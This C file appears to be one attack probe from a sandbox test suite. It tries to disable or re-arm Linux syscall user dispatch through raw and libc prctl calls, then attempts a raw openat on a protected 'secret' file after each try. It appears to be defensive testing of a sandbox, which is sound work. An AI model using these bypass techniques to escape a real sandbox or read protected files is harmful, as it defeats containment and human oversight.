#include "attack.h"
#include <sys/prctl.h>
int main(int argc, char **argv) {
    ARGS
    long r = raw(SYS_prctl, 59 /* PR_SET_SYSCALL_USER_DISPATCH */, 0 /* OFF */, 0, 0);
    printf("raw prctl SUD off: %ld\n", r);
    show("then raw openat secret", raw(SYS_openat, AT_FDCWD, secret, O_RDONLY, 0));
    r = prctl(59, 0, 0, 0, 0);
    printf("libc prctl SUD off: %ld\n", r);
    show("then raw openat secret", raw(SYS_openat, AT_FDCWD, secret, O_RDONLY, 0));
    /* seccomp / landlock self-removal attempts do not exist; try new SUD range covering everything */
    char sel = 0;
    r = raw6(SYS_prctl, 59, 1 /* ON */, 0, 0x7fffffffffff, (long)&sel, 0);
    printf("raw prctl SUD re-arm everywhere allowed: %ld\n", r);
    show("then raw openat secret", raw(SYS_openat, AT_FDCWD, secret, O_RDONLY, 0));
    return 0;
}
